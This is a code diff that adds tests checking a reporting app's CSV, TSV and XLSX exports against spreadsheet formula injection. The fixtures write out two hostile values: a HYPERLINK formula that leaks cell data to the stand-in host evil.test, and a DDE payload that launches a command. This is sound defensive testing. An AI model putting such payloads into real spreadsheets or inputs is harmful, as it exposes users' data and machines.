@@ -125,3 +125,58 @@ describe("the report's files", () => {
     expect(rows.find((candidate) => candidate.ref === "4.3" && candidate.quarter === "Q4")).toMatchObject({ status: "DRAFT", values: "" });
   });
 });
+
+describe("the report's files never hold a formula", () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
+  const DDE = "+cmd|' /C calc'!A0";
+  // Q4's updates of text-only indicators: two formulas, and two that are plain numbers.
+  const updates = [
+    { ref: "2.1", email: "cps@demo.test", commentary: HYPERLINK },
+    { ref: "2.3", email: "cps@demo.test", commentary: DDE },
+    { ref: "3.2", email: "publichealth@demo.test", commentary: "-2.5%" },
+    { ref: "1.7", email: "pcc@demo.test", commentary: "-3" },
+  ];
+
+  beforeAll(async () => {
+    const q4 = await test.db.prisma.quarter.findFirstOrThrow({ where: { status: "OPEN" } });
+    for (const { ref, email, commentary } of updates) {
+      const indicator = await test.db.prisma.indicator.findFirstOrThrow({ where: { ref } });
+      const saved = await (await client(email)).put(`/api/returns/${indicator.id}/${q4.id}`, { version: 0, status: "SUBMITTED", commentary });
+      expect(saved.statusCode, saved.body).toBe(200);
+    }
+  });
+
+  it("CSV: formula text starts with an apostrophe; plain numbers stay numbers", async () => {
+    const rows = parse((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.csv`)).body, { columns: true }) as Record<string, string>[];
+    const commentary = (ref: string) => rows.find((candidate) => candidate.ref === ref && candidate.quarter === "Q4")!.commentary;
+    expect(commentary("2.1")).toBe(`'${HYPERLINK}`);
+    expect(commentary("2.3")).toBe(`'${DDE}`);
+    expect(commentary("3.2")).toBe("-2.5%");
+    expect(commentary("1.7")).toBe("-3");
+  });
+
+  it("TSV: the same, cell by cell", async () => {
+    const tsv = (await (await client("manager@demo.test")).get(`/api/reports/${yearId}.tsv`)).body;
+    const rows = parse(tsv, { delimiter: "\t", relax_column_count: true }) as string[][];
+    const q4 = (ref: string) => rows.find((cells) => cells[0] === ref)![6];
+    expect(q4("2.1")).toBe(`'${HYPERLINK}`);
+    expect(q4("2.3")).toBe(`'${DDE}`);
+    expect(q4("3.2")).toBe("-2.5%");
+    expect(q4("1.7")).toBe("-3");
+    expect(tsv).not.toMatch(/(^|\t)[=+@]/m);
+  });
+
+  it("XLSX: the same, read back with ExcelJS", async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await (await client("manager@demo.test")).get(`/api/reports/${yearId}.xlsx`)).rawPayload as unknown as ArrayBuffer);
+    const q4 = new Map<unknown, unknown>();
+    workbook.eachSheet((sheet) => sheet.eachRow((row) => q4.set(row.getCell(1).value, row.getCell(7).value)));
+    expect(q4.get("2.1")).toBe(`'${HYPERLINK}`);
+    expect(q4.get("2.3")).toBe(`'${DDE}`);
+    expect(q4.get("3.2")).toBe("-2.5%");
+    expect(q4.get("1.7")).toBe("-3");
+    const formulas: string[] = [];
+    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address))));
+    expect(formulas).toEqual([]);
+  });
+});
